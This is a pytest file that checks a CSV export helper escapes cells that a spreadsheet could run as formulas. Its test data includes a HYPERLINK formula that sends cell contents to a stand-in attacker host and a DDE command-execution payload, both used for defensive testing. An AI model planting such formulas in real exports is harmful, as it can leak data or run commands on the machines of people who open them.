"""CSV downloads open in a spreadsheet as data: no cell can run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from walkback_rules.csvtext import cell, csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
         '\'=HYPERLINK("https://attacker.example/?d="&A1,"Open")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Progress to 5 walks a week", "Progress to 5 walks a week"),
        ("a=b", "a=b"),
        (-3, -3),
        (0, 0),
        (None, ""),
    ],
)  # fmt: skip
def test_a_cell_that_could_start_a_formula_is_marked_as_text(
    value: object, written: object
) -> None:
    assert cell(value) == written


def test_csv_text_round_trips_through_a_reader_with_formulas_neutralised() -> None:
    rows = [
        {"Visit": 1, "Summary": "=cmd|' /C calc'!A0", "Pain at visit": 4},
        {"Visit": 2, "Summary": "Hold at 4 walks, 10 minutes, for 2 weeks", "Pain at visit": 2},
    ]

    read = list(csv.reader(io.StringIO(csv_text(rows))))

    assert read == [
        ["Visit", "Summary", "Pain at visit"],
        ["1", "'=cmd|' /C calc'!A0", "4"],
        ["2", "Hold at 4 walks, 10 minutes, for 2 weeks", "2"],
    ]
    assert csv_text([]) == ""
